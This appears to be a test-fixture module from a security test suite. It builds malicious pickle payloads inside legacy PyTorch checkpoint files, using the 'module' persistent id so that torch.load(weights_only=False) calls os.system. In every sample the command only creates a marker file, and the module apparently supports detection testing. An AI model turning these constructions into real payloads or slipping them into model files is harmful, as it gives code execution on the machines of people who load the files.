"""Hostile whole-model (``('module', <class>, <file>, <source>)``) persistent ids in legacy
torch files, built opcode by opcode; each payload would create ``marker`` under stock
``torch.load(weights_only=False)``, whose legacy ``persistent_load`` returns the id's second
item (for any length whose other items are falsy, and after comparing source texts)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests import pickleasm as A
from tests._load.hostile import legacy_with_pickle


def _touch(marker: Path) -> bytes:
    return A.ustr(f"touch {marker}")


def module_id_os_system(m: Path) -> bytes:
    """('module', os.system, '', '') -> os.system; REDUCE calls it."""
    pid = A.MARK + A.ustr("module") + A.glob("os", "system") + A.ustr("") + A.ustr("") + A.TUPLE
    return A.proto(2) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


def module_id_five_items(m: Path) -> bytes:
    """A malformed 5-item id whose extra items are falsy: torch still returns the class."""
    pid = (
        A.MARK + A.ustr("module") + A.glob("os", "system") + A.ustr("") + A.ustr("")
        + A.NONE + A.TUPLE
    )  # fmt: skip
    return A.proto(2) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


def module_id_two_items(m: Path) -> bytes:
    """('module', os.system): data[1:] is empty, so all() is true and torch calls its source
    check with one argument, which fails; still dangerous: the global is imported."""
    pid = A.ustr("module") + A.glob("os", "system") + A.TUPLE2
    return A.proto(2) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


def module_id_memoized(m: Path) -> bytes:
    """os.system memoized first, then fetched with BINGET into the id (bytes typename)."""
    return (
        A.proto(2) + A.glob("os", "system") + A.binput(0) + A.POP
        + A.MARK + A.binbytes(b"module") + A.binget(0) + A.NONE + A.NONE + A.TUPLE
        + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP
    )  # fmt: skip


def module_id_memoized_result(m: Path) -> bytes:
    """The id is memoized and the returned class fetched again later: each use is a call."""
    pid = A.MARK + A.ustr("module") + A.glob("os", "system") + A.NONE + A.NONE + A.TUPLE
    return (
        A.proto(2) + pid + A.BINPERSID + A.binput(1) + A.POP
        + A.binget(1) + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP
    )  # fmt: skip


def module_id_stack_global(m: Path) -> bytes:
    """The class comes from STACK_GLOBAL (protocol 4)."""
    pid = (
        A.MARK + A.ustr("module") + A.ustr("os") + A.ustr("system") + A.STACK_GLOBAL
        + A.NONE + A.NONE + A.TUPLE
    )  # fmt: skip
    return A.proto(4) + pid + A.BINPERSID + _touch(m) + A.TUPLE1 + A.REDUCE + A.STOP


SAMPLES: dict[str, Callable[[Path], bytes]] = {
    "module_id_os_system": module_id_os_system,
    "module_id_five_items": module_id_five_items,
    "module_id_memoized": module_id_memoized,
    "module_id_memoized_result": module_id_memoized_result,
    "module_id_stack_global": module_id_stack_global,
}
# imported (os.system) but torch.load fails before calling it
NOT_LIVE = {"module_id_two_items": module_id_two_items}


def write(name: str, path: Path, marker: Path) -> Path:
    build = SAMPLES.get(name) or NOT_LIVE[name]
    return legacy_with_pickle(path, build(marker))
